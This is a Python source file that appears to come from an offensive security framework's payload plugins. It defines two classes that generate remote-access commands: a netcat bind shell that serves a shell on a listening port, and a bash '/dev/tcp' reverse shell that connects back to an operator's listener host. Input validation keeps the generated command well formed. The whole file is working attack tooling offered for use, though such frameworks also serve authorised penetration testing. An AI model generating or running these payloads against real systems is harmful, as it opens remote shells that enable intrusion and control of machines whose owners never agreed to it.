"""Command shell payloads."""

import re
from typing import Any

from armory.contracts import ParamError
from armory.plugins.base import BasePayload
from armory.plugins.params import Param

# Host names and IPv4/IPv6 literals; anything else could break out of the
# generated command line or be read as a command option (leading "-")
SAFE_HOST = re.compile(r"[A-Za-z0-9\[][A-Za-z0-9.\-:\[\]]*")


class BindShell(BasePayload):
    """Shell bound to a listening TCP port (netcat).

    Connect to the target on ``port`` to get a shell.
    """

    id = "cmd/bind_shell"
    params = {
        "port": Param("integer", required=True, minimum=1, maximum=65535, desc="Port to listen on"),
        "shell": Param("enum", default="sh", choices=("sh", "bash", "zsh"), desc="Shell to bind"),
    }

    def build(self) -> str:
        return f"nc -l -p {self.params['port']} -e /bin/{self.params['shell']}"


class ReverseShell(BasePayload):
    """Interactive shell connecting back to a listener.

    Uses bash's /dev/tcp redirection; start ``nc -l -p PORT`` on ``host``
    first.
    """

    id = "cmd/reverse_shell"
    params = {
        "host": Param("string", required=True, desc="Listener host name or IP"),
        "port": Param("integer", required=True, minimum=1, maximum=65535, desc="Listener port"),
        "shell": Param("enum", default="bash", choices=("bash", "sh"), desc="Shell to spawn"),
    }

    def check_param(self, name: str, value: Any) -> None:
        if name == "host" and SAFE_HOST.fullmatch(value) is None:
            raise ParamError(name, "host contains characters that are unsafe in a shell command")

    def build(self) -> str:
        host = self.params["host"]
        port = self.params["port"]
        shell = self.params["shell"]
        return f"{shell} -i >& /dev/tcp/{host}/{port} 0>&1"
